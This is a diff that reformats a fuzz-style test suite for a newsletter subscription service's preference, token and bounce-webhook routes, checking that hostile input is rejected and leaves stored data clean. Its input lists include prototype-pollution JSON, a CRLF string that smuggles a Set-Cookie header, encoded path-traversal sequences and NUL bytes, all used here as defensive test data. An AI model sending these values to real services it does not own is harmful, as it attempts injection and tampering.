       for (const [name, { method, path, type, headers, sign }] of all) {
         const content = `{"email":"${uniqueEmail('big')}","consent":true,"name":"${'x'.repeat(size)}"}`;
@@ -384,7 +768,8 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
                 duplex: 'half',
                 body: new ReadableStream({
                   start(controller) {
-                    for (let i = 0; i < bytes.length; i += 16 * 1024) controller.enqueue(bytes.subarray(i, i + 16 * 1024));
+                    for (let i = 0; i < bytes.length; i += 16 * 1024)
+                      controller.enqueue(bytes.subarray(i, i + 16 * 1024));
                     controller.close();
                   },
                 }),
@@ -403,27 +788,50 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
 
     const putBody = fc.oneof(
       objectText([]),
-      fc.record(
-        { name: fc.oneof(nastyString, fc.constant(null), fc.integer()), topics: fc.oneof(fc.array(fc.oneof(nastyString, fc.constantFrom('release', 'updates')), { maxLength: 5 }), nastyString), unsubscribe_all: fc.oneof(fc.boolean(), nastyString) },
-        { requiredKeys: [] },
-      ).map((o) => JSON.stringify(o)),
+      fc
+        .record(
+          {
+            name: fc.oneof(nastyString, fc.constant(null), fc.integer()),
+            topics: fc.oneof(
+              fc.array(fc.oneof(nastyString, fc.constantFrom('release', 'updates')), { maxLength: 5 }),
+              nastyString,
+            ),
+            unsubscribe_all: fc.oneof(fc.boolean(), nastyString),
+          },
+          { requiredKeys: [] },
+        )
+        .map((o) => JSON.stringify(o)),
       malformedJson.map((b) => b.toString('latin1')),
     );
 
     it('PUT with hostile JSON: no 5xx; a refusal changes nothing; anything saved is clean', async () => {
-      const state = async () => h.query('select s.name, s.status, t.topic, t.subscribed from subscribers s left join subscriptions t on t.subscriber_id = s.id where s.id = $1 order by t.topic', [sub.id]);
+      const state = async () =>
+        h.query(
+          'select s.name, s.status, t.topic, t.subscribed from subscribers s left join subscriptions t on t.subscriber_id = s.id where s.id = $1 order by t.topic',
+          [sub.id],
+        );
       await fc.assert(
         fc.asyncProperty(putBody, async (body) => {
           const before = await state();
-          const answer = await probe(`/v1/preferences/${sub.preferencesToken}`, { method: 'PUT', body, headers: JSON_HEADERS }, { allowed: [200, 400, 422] });
+          const answer = await probe(
+            `/v1/preferences/${sub.preferencesToken}`,
+            { method: 'PUT', body, headers: JSON_HEADERS },
+            { allowed: [200, 400, 422] },
+          );
           if (answer.status !== 200) expect(await state()).toEqual(before);
-          const [row] = await h.query<{ name: string | null; status: string }>('select name, status from subscribers where id = $1', [sub.id]);
+          const [row] = await h.query<{ name: string | null; status: string }>(
+            'select name, status from subscribers where id = $1',
+            [sub.id],
+          );
           // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
           expect(row!.name ?? '').not.toMatch(/[\u0000-\u001f\u007f]/);
           if (row!.status === 'unsubscribed') {
             // unsubscribe_all is allowed to stick; put the subscriber back for the next run.
             await h.query("update subscribers set status = 'active' where id = $1", [sub.id]);
-            await h.query('delete from suppressions where email_hash = (select email_hash from subscribers where id = $1)', [sub.id]);
+            await h.query(
+              'delete from suppressions where email_hash = (select email_hash from subscribers where id = $1)',
+              [sub.id],
+            );
           }
         }),
         RUNS,
@@ -439,9 +847,31 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
         }
       };
       await fc.assert(
-        fc.asyncProperty(fc.oneof(objectText([]), objectText([['confirm', 'false']]), fc.constantFrom('{"confirm":"true"}', '{"confirm":1}', '{"confirm":[true]}', '{"confirm":{"valueOf":true}}', '{"__proto__":{"confirm":true}}', '{"constructor":{"prototype":{"confirm":true}}}', 'true', '[{"confirm":true}]')).filter((b) => !confirms(b)), async (body) => {
-          await probe(`/v1/preferences/${sub.preferencesToken}/erase`, { method: 'POST', body, headers: JSON_HEADERS }, { allowed: [400, 422] });
-        }),
+        fc.asyncProperty(
+          fc
+            .oneof(
+              objectText([]),
+              objectText([['confirm', 'false']]),
+              fc.constantFrom(
+                '{"confirm":"true"}',
+                '{"confirm":1}',
+                '{"confirm":[true]}',
+                '{"confirm":{"valueOf":true}}',
+                '{"__proto__":{"confirm":true}}',
+                '{"constructor":{"prototype":{"confirm":true}}}',
+                'true',
+                '[{"confirm":true}]',
+              ),
+            )
+            .filter((b) => !confirms(b)),
+          async (body) => {
+            await probe(
+              `/v1/preferences/${sub.preferencesToken}/erase`,
+              { method: 'POST', body, headers: JSON_HEADERS },
+              { allowed: [400, 422] },
+            );
+          },
+        ),
         RUNS,
       );
       expect((await h.request(`/v1/preferences/${sub.preferencesToken}`)).status).toBe(200);
@@ -452,15 +882,33 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
         fc.asyncProperty(
           fc.oneof(
             formText([]),
-            fc.tuple(fc.constantFrom('save', 'unsubscribe_all', 'resubscribe', 'erase_request', 'erase', 'ERASE', 'nope', ''), formText([])).map(([intent, rest]) => `intent=${intent}&${rest}`),
+            fc
+              .tuple(
+                fc.constantFrom(
+                  'save',
+                  'unsubscribe_all',
+                  'resubscribe',
+                  'erase_request',
+                  'erase',
+                  'ERASE',
+                  'nope',
+                  '',
+                ),
+                formText([]),
+              )
+              .map(([intent, rest]) => `intent=${intent}&${rest}`),
           ),
           async (body) => {
             const x = await insertActiveSubscriber(h, uniqueEmail('page'));
             // A 303 back to the page is a change saved (a save with no topic boxes ticked turns every topic off).
-            await probe(`/preferences/${x.preferencesToken}`, { method: 'POST', body, headers: { 'content-type': FORM, origin: ORIGIN, accept: 'text/html' } }, {
-              allowed: [200, 303, 400, 404, 422],
-              accepted: (a) => a.status < 400,
-            });
+            await probe(
+              `/preferences/${x.preferencesToken}`,
+              { method: 'POST', body, headers: { 'content-type': FORM, origin: ORIGIN, accept: 'text/html' } },
+              {
+                allowed: [200, 303, 400, 404, 422],
+                accepted: (a) => a.status < 400,
+              },
+            );
           },
         ),
         RUNS,
@@ -471,11 +919,27 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
   describe('link requests (/manage, /resend-confirmation)', () => {
     it('hostile form posts: no 5xx; the same page for any valid address; nothing but a rate-limit count stored', async () => {
       await fc.assert(
-        fc.asyncProperty(fc.constantFrom('/manage', '/resend-confirmation'), fc.oneof(formText([]), addressFor('link').map((a) => `email=${safeEncode(a)}`)), fc.constantFrom(...ACCEPTS), async (path, body, accept) => {
-          fc.pre(!(await mentionsHeldAddress(body)));
-          const answer = await probe(path, { method: 'POST', body, headers: { 'content-type': FORM, origin: ORIGIN, ...(accept ? { accept } : {}) } }, { allowed: [200, 400, 422], mayCount: ['rate_limits'] });
-          if (answer.status === 200) expect(answer.text).toMatch(/<html/i);
-        }),
+        fc.asyncProperty(
+          fc.constantFrom('/manage', '/resend-confirmation'),
+          fc.oneof(
+            formText([]),
+            addressFor('link').map((a) => `email=${safeEncode(a)}`),
+          ),
+          fc.constantFrom(...ACCEPTS),
+          async (path, body, accept) => {
+            fc.pre(!(await mentionsHeldAddress(body)));
+            const answer = await probe(
+              path,
+              {
+                method: 'POST',
+                body,
+                headers: { 'content-type': FORM, origin: ORIGIN, ...(accept ? { accept } : {}) },
+              },
+              { allowed: [200, 400, 422], mayCount: ['rate_limits'] },
+            );
+            if (answer.status === 200) expect(answer.text).toMatch(/<html/i);
+          },
+        ),
         RUNS,
       );
     });
@@ -486,7 +950,23 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
       fc.string({ maxLength: 80 }).map(safeEncode),
       fc.string({ unit: 'binary', maxLength: 60 }).map(safeEncode),
       fc.stringMatching(/^[A-Za-z0-9_-]{40,56}$/),
-      fc.constantFrom('%ff', '%E0%A4%A', '%00', '%2e%2e', '%2F', '%252F', 'a%0d%0aSet-Cookie:%20x=1', '%', 'AAAA%', '%uD800', '%C0%AF', 'null', 'undefined', '0', '-1'),
+      fc.constantFrom(
+        '%ff',
+        '%E0%A4%A',
+        '%00',
+        '%2e%2e',
+        '%2F',
+        '%252F',
+        'a%0d%0aSet-Cookie:%20x=1',
+        '%',
+        'AAAA%',
+        '%uD800',
+        '%C0%AF',
+        'null',
+        'undefined',
+        '0',
+        '-1',
+      ),
       fc.integer({ min: 150, max: 3000 }).map((n) => 'A'.repeat(n)),
     );
     const routes: [string, (t: string) => string, string | undefined][] = [
@@ -506,19 +986,28 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
     it('a forged, garbled or over-long token never works on any token route, and changes nothing', async () => {
       const before = await tableCounts(h);
       await fc.assert(
-        fc.asyncProperty(segment, fc.integer({ min: 0, max: routes.length - 1 }), fc.constantFrom(...ACCEPTS), async (token, i, accept) => {
-          const [method, path, body] = routes[i]!;
-          const p = path(token);
-          // "..", "%2e%2e" and friends are resolved by the URL parser: then it is another route, not a token.
-          fc.pre(new URL(p, ORIGIN).pathname.split('/')[1] === p.split('/')[1]);
-          const res = await h.request(p, {
-            method,
-            ...(body !== undefined ? { body } : {}),
-            headers: { origin: ORIGIN, 'content-type': body?.startsWith('{') ? 'application/json' : FORM, ...(accept ? { accept } : {}) },
-          });
-          const answer = await checkAnswer(res, `${method} ${p.slice(0, 100)}`);
-          expect([404, 410, 422], `${method} ${p.slice(0, 100)} → ${answer.status}`).toContain(answer.status);
-        }),
+        fc.asyncProperty(
+          segment,
+          fc.integer({ min: 0, max: routes.length - 1 }),
+          fc.constantFrom(...ACCEPTS),
+          async (token, i, accept) => {
+            const [method, path, body] = routes[i]!;
+            const p = path(token);
+            // "..", "%2e%2e" and friends are resolved by the URL parser: then it is another route, not a token.
+            fc.pre(new URL(p, ORIGIN).pathname.split('/')[1] === p.split('/')[1]);
+            const res = await h.request(p, {
+              method,
+              ...(body !== undefined ? { body } : {}),
+              headers: {
+                origin: ORIGIN,
+                'content-type': body?.startsWith('{') ? 'application/json' : FORM,
+                ...(accept ? { accept } : {}),
+              },
+            });
+            const answer = await checkAnswer(res, `${method} ${p.slice(0, 100)}`);
+            expect([404, 410, 422], `${method} ${p.slice(0, 100)} → ${answer.status}`).toContain(answer.status);
+          },
+        ),
         { numRuns: 200 },
       );
       expect(await tableCounts(h)).toEqual(before);
@@ -527,7 +1016,12 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
 
   describe('POST /webhooks/bounces', () => {
     const event = fc.record(
-      { type: fc.oneof(fc.constantFrom('hard', 'soft', 'complaint'), nastyString), email: addressFor('hook'), message_id: fc.oneof(nastyString, fc.constant('<a\u0000b@quire.test>')), diagnostic: fc.oneof(nastyString, fc.constant('550 5.1.1 \u0000')) },
+      {
+        type: fc.oneof(fc.constantFrom('hard', 'soft', 'complaint'), nastyString),
+        email: addressFor('hook'),
+        message_id: fc.oneof(nastyString, fc.constant('<a\u0000b@quire.test>')),
+        diagnostic: fc.oneof(nastyString, fc.constant('550 5.1.1 \u0000')),
+      },
       { requiredKeys: ['type'] },
     );
     const webhookBody = fc.oneof(
@@ -542,10 +1036,18 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
       await fc.assert(
         fc.asyncProperty(webhookBody, async (body) => {
           fc.pre(!(await mentionsHeldAddress(body)));
-          await probe('/webhooks/bounces', { method: 'POST', body, headers: { 'content-type': 'application/json', 'x-quire-signature': webhookSignature(h, body) } }, {
-            allowed: [200, 400, 422],
-            accepted: () => false,
-          });
+          await probe(
+            '/webhooks/bounces',
+            {
+              method: 'POST',
+              body,
+              headers: { 'content-type': 'application/json', 'x-quire-signature': webhookSignature(h, body) },
+            },
+            {
+              allowed: [200, 400, 422],
+              accepted: () => false,
+            },
+          );
         }),
         RUNS,
       );
@@ -553,12 +1055,24 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
 
     it('a NUL in message_id or diagnostic is harmless for a real subscriber too', async () => {
       const sub = await insertActiveSubscriber(h, uniqueEmail('nul'));
-      for (const e of [{ type: 'soft', email: sub.email, diagnostic: '452 mailbox full\u0000\u0007' }, { type: 'hard', message_id: '<x\u0000y@quire.test>' }]) {
+      for (const e of [
+        { type: 'soft', email: sub.email, diagnostic: '452 mailbox full\u0000\u0007' },
+        { type: 'hard', message_id: '<x\u0000y@quire.test>' },
+      ]) {
         const body = JSON.stringify(e);
-        const answer = await checkAnswer(await h.request('/webhooks/bounces', { method: 'POST', body, headers: { 'content-type': 'application/json', 'x-quire-signature': webhookSignature(h, body) } }));
+        const answer = await checkAnswer(
+          await h.request('/webhooks/bounces', {
+            method: 'POST',
+            body,
+            headers: { 'content-type': 'application/json', 'x-quire-signature': webhookSignature(h, body) },
+          }),
+        );
         expect(answer.status).toBe(200);
       }
-      const [row] = await h.query<{ diagnostic: string }>('select diagnostic from bounce_events where email_hash = $1', [sub.emailHash]);
+      const [row] = await h.query<{ diagnostic: string }>(
+        'select diagnostic from bounce_events where email_hash = $1',
+        [sub.emailHash],
+      );
       expect(row!.diagnostic).toBe('452 mailbox full  ');
     });
 
@@ -579,8 +1093,20 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
               h.clock.advance(-10 * 60_000);
               header = webhookSignature(h, body);
               h.clock.advance(10 * 60_000);
-            } else if (signature === 'other-secret') header = webhookSignature(h, body, 'a-different-secret-0123456789');
-            const answer = await probe('/webhooks/bounces', { method: 'POST', body, headers: { 'content-type': 'application/json', ...(header !== undefined ? { 'x-quire-signature': header } : {}) } }, { allowed: [401] });
+            } else if (signature === 'other-secret')
+              header = webhookSignature(h, body, 'a-different-secret-0123456789');
+            const answer = await probe(
+              '/webhooks/bounces',
+              {
+                method: 'POST',
+                body,
+                headers: {
+                  'content-type': 'application/json',
+                  ...(header !== undefined ? { 'x-quire-signature': header } : {}),
+                },
+              },
+              { allowed: [401] },
+            );
             expect(answer.json?.error?.code).toBe('unauthorized');
           },
         ),
@@ -590,7 +1116,9 @@ describe.each(databaseKinds)('hostile input on %s', (kind) => {
   });
 
   it('every stored subscriber is normalised and clean, and no prototype was polluted', async () => {
-    const rows = await h.query<{ email: string | null; name: string | null; source: string | null; locale: string }>('select email, name, source, locale from subscribers');
+    const rows = await h.query<{ email: string | null; name: string | null; source: string | null; locale: string }>(
+      'select email, name, source, locale from subscribers',
+    );
     expect(rows.length).toBeGreaterThan(10);
     for (const r of rows) {
       if (r.email === null) continue;
